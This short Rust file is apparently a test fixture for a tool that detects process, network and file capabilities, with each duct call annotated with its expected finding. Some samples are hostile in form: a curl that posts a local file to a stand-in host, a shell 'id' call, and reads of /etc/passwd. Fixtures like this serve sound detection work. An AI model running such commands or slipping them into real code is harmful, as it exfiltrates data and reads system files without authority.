//! dependency: duct = "1.1.2"
use duct::cmd;

pub fn report() -> std::io::Result<()> {
    cmd!("curl", "-d", "@x", "http://collector.invalid").run()?; //~ process.spawn curl; net.send http://collector.invalid
    Ok(())
}

pub fn list() -> std::io::Result<String> {
    duct::cmd("sh", ["-c", "id"]).read() //~ process.spawn sh; process.shell id
}

pub fn piped() -> std::io::Result<String> {
    cmd!("cat", "/etc/passwd").pipe(cmd!("wc", "-l")).read() //~ process.spawn cat; process.spawn wc
}

pub fn kept() -> std::io::Result<()> {
    let base = duct::cmd("tool", ["--all"]).dir("/srv").env_remove("LANG"); //~ process.spawn tool
    base.unchecked().stdin_path("/etc/passwd").stdout_path("/tmp/out").run()?; //~ file.read /etc/passwd; file.write /tmp/out
    Ok(())
}
